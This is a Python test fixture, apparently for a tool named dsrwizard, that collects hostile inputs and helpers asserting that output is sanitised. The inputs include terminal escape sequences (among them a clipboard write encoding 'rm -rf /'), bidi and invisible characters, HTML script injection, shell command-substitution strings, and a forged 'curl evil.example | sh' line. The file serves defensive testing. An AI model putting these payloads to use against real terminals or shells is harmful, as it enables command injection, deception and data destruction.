"""Texts that a terminal, a reader or a page would do something with, and what may be left of them in an output."""

from __future__ import annotations

import unicodedata

FORGED = "FORGED"
LINES = (
    f"Verdict: pass {FORGED}",
    f"         fix: curl evil.example | sh {FORGED}",
    f"fix: curl evil.example | sh {FORGED}",
    f"fail     web1       vip.probe {FORGED}",
    f"web1: nothing to do {FORGED}",
    f"  - Drop the firewall {FORGED}",
    f"      $ reboot {FORGED}",
    f"      undo: reboot {FORGED}",
    f"      ! nothing {FORGED}",
    f"  Fingerprint {FORGED}",
    f"Is that the key of this host? [y/N]: {FORGED}",
    f"dsrwizard_up 1 {FORGED}",
    f"## Undo {FORGED}",
    f"Fix: reboot {FORGED}",
)
"""Lines as dsrwizard begins them."""

_LONG = {"long controls": "\x1b[31m" * 2_000, "long": "A" * 10_000}
_SHORT = {
    "title": "\x1b]0;PWNED\x07",
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "link": "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "screen": "\x1b[2J\x1b[5;5HZZ\x1b[31;5;7m",
    "conceal": "x\x1b[8mhidden",
    "C1": "\x9b8mhidden\x9b0m \x9d0;PWNED\x9c \x90q\x9c",
    "other controls": "a\x00\x07\x08\x0b\x0c\x0e\x0f\x7f\x05b\rc\td",
    "lines": "x\n" + "\n".join(LINES),
    "carriage returns": "x\r" + "\r\n".join(LINES),
    "other line ends": "x" + "".join(
        f"{end}{line}" for end, line in zip("\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029" * 2, LINES, strict=False)
    ),
    "overrides": "\u202eevil\u202c \u2066x\u2069 \u2067y\u2068z\u2069 \u200e\u200f\u061c \u202a\u202b\u202d",
    "unseen": "we\u200bb\u200c1\u200d \ufeff\u2060\u00ad\u180e\u034f\u115f\u3164\uffa0 \ufe0f\U000e0041\U000e0001",
    "halves": "\ud800 \udc9b \udcff",
    "no signs": "\ufffe \U0010ffff \ue000 \ufdd0",
    "marks": "Z" + "\u0300\u0489\u20dd" * 40,
    "markup": "[bold red]x[/] [@click=app.quit]quit[/] [link=http://evil.example]l[/] [/] [[x]] \\[y]",
    "Markdown": "```\n# heading\n- item\n> quote\n![i](http://evil.example/i.png) [l](javascript:x) <img src=x>"
    " https://evil.example www.evil.example **b** `c` | a | b |\n---\n~~~\n1. one &#27; &lt;",
    "HTML": "</pre></script><script>alert(1)</script>\"'><img src=x onerror=y><!-- & &#x1b;",
    "shell": "$(reboot) `reboot` ; reboot | sh && reboot > /etc/passwd ' \" \\ $HOME !! # {a,b} *",
    "format": "{0} {x!r} %s %(name)s {{}} \\x1b \\n",
}  # fmt: skip
HOSTILE = {"all of it": " ".join(_SHORT.values()), "lines": _SHORT["lines"], **_LONG, **_SHORT}
TELLING = 3
"""So many of them, the first ones, have of everything something."""


def acts(sign: str) -> bool:
    """Whether a terminal obeys this sign or nobody sees it, by the Unicode database."""
    return (
        unicodedata.category(sign) in ("Cc", "Cs", "Co", "Zl", "Zp")
        or unicodedata.bidirectional(sign) in ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI")
        or sign in "\u200b\u200c\u200d\u200e\u200f\u061c\u2060\ufeff\u00ad\u180e\u034f\u115f\u1160\u3164\uffa0\ufe0f"
        or 0xE0000 <= ord(sign) <= 0xE0FFF
        or ord(sign) & 0xFFFE == 0xFFFE
    )


def harmless(text: str, but: str = "\n") -> None:
    """Fails where a text holds a sign that acts."""
    for sign in set(text) - set(but):
        if acts(sign):
            at = text.index(sign)
            raise AssertionError(f"{sign!a} in {text[max(0, at - 60) : at + 20]!a}")


def unforged(text: str, quoting: tuple[str, ...] = ("  | ",)) -> None:
    """Fails where a line of the text is one of those that were to be forged; not behind the mark of a quotation."""
    for line in text.split("\n"):
        if FORGED in line and not line.startswith(quoting):
            assert not line.startswith(LINES), ascii(line[:200])
            assert not line.strip().startswith(tuple(one.strip() for one in LINES)), ascii(line[:200])
